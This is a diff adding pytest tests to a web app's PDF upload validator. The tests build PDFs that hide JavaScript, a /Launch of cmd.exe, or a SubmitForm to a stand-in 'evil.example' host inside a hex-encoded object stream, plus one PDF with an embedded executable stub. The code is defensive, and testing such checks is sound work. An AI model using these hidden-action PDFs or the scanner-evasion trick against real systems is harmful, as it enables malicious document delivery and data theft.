@@ -113,3 +113,92 @@ def test_a_request_under_the_ceiling_reaches_the_view(client, settings):
     settings.JALUR_MAX_REQUEST_BYTES = 1024 * 1024
     response = client.post("/masuk/", {"username": "x", "password": "y"})
     assert response.status_code == 200
+
+
+# --- PDFs read by their structure (issue 16: a regular expression missed hidden scripts) ------------
+
+
+def _pdf_with_object_stream(hidden: bytes) -> bytes:
+    """A valid PDF 1.5 whose object 5 (`hidden`, the catalog's OpenAction) sits in an object stream
+    encoded with ASCIIHexDecode, found through a cross-reference stream: no byte of it is readable
+    in the file, and no Flate stream holds it."""
+    inner = b"5 0 " + hidden
+    first = len(b"5 0 ")
+    objstm = inner.hex().upper() + ">"
+    parts = [
+        b"1 0 obj << /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >> endobj\n",
+        b"2 0 obj << /Type /Pages /Kids [3 0 R] /Count 1 >> endobj\n",
+        b"3 0 obj << /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >> endobj\n",
+        (
+            f"4 0 obj << /Type /ObjStm /N 1 /First {first} /Filter /ASCIIHexDecode "
+            f"/Length {len(objstm)} >>\nstream\n{objstm}\nendstream\nendobj\n"
+        ).encode(),
+    ]
+    out = b"%PDF-1.5\n"
+    offsets = []
+    for part in parts:
+        offsets.append(len(out))
+        out += part
+    xref_at = len(out)
+    rows = [b"\x00" + (0).to_bytes(4, "big") + b"\xff\xff"]
+    rows += [b"\x01" + o.to_bytes(4, "big") + b"\x00\x00" for o in offsets]
+    rows.append(b"\x02" + (4).to_bytes(4, "big") + b"\x00\x00")  # object 5: in stream 4, first
+    rows.append(b"\x01" + xref_at.to_bytes(4, "big") + b"\x00\x00")  # object 6: this stream
+    data = b"".join(rows)
+    out += (
+        f"6 0 obj << /Type /XRef /Size 7 /W [1 4 2] /Root 1 0 R /Length {len(data)} >>\nstream\n"
+    ).encode()
+    out += data + b"\nendstream\nendobj\n"
+    out += f"startxref\n{xref_at}\n%%EOF\n".encode()
+    return out
+
+
+@pytest.mark.parametrize(
+    "hidden",
+    [
+        b"<< /S /JavaScript /JS (app.alert(1)) >>",
+        b"<< /S /Launch /F (cmd.exe) >>",
+        b"<< /S /SubmitForm /F (https://evil.example/x) >>",
+    ],
+)
+def test_an_action_hidden_in_a_hex_encoded_object_stream_is_refused(hidden):
+    pdf = _pdf_with_object_stream(hidden)
+    assert b"JavaScript" not in pdf and b"Launch" not in pdf and b"Submit" not in pdf
+    with pytest.raises(ValidationError) as error:
+        document_file_check(_upload(pdf, "surat.pdf"))
+    assert "JavaScript atau perintah otomatis" in str(error.value)
+
+
+def test_a_pdf_carrying_a_file_is_refused():
+    import pikepdf
+
+    pdf = pikepdf.new()
+    pdf.add_blank_page()
+    pdf.attachments["program.exe"] = pikepdf.AttachedFileSpec(pdf, b"MZ\x90\x00")
+    buffer = io.BytesIO()
+    pdf.save(buffer, compress_streams=True, object_stream_mode=pikepdf.ObjectStreamMode.generate)
+    with pytest.raises(ValidationError):
+        document_file_check(_upload(buffer.getvalue(), "ijazah.pdf"))
+
+
+def test_an_open_action_that_only_opens_the_first_page_passes():
+    import pikepdf
+
+    pdf = pikepdf.new()
+    pdf.add_blank_page()
+    pdf.Root.OpenAction = pikepdf.Array([pdf.pages[0].obj, pikepdf.Name.Fit])
+    buffer = io.BytesIO()
+    pdf.save(buffer, object_stream_mode=pikepdf.ObjectStreamMode.generate)
+    checked = document_file_check(_upload(buffer.getvalue(), "ijazah.pdf"))
+    assert checked.content_type == "application/pdf"
+
+
+def test_a_pdf_jalur_itself_prints_passes():
+    from fpdf import FPDF
+
+    document = FPDF()
+    document.add_page()
+    document.set_font("helvetica", size=12)
+    document.cell(text="Surat keterangan sehat")
+    checked = document_file_check(_upload(bytes(document.output()), "surat.pdf"))
+    assert checked.content_type == "application/pdf"
